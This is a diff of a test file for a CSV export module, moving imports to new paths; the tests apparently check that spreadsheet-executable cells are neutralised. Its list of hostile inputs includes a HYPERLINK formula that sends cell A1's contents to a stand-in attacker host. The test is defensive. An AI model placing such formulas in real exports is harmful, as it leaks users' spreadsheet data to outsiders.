@@ -1,8 +1,8 @@
 /** CSV cells a spreadsheet would run as formulas are made inert; a real CSV parser reads every cell back. */
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
-import { FORMULA_START, inertCell } from '../../src/lib/csv-cell.ts';
-import { toCsv } from '../../src/lib/exports.ts';
+import { FORMULA_START, inertCell } from '../../src/exports/csv-cell.ts';
+import { toCsv } from '../../src/exports/csv.ts';
 
 const HOSTILE = [
   '=HYPERLINK("https://evil.example/?"&A1,"Click")',
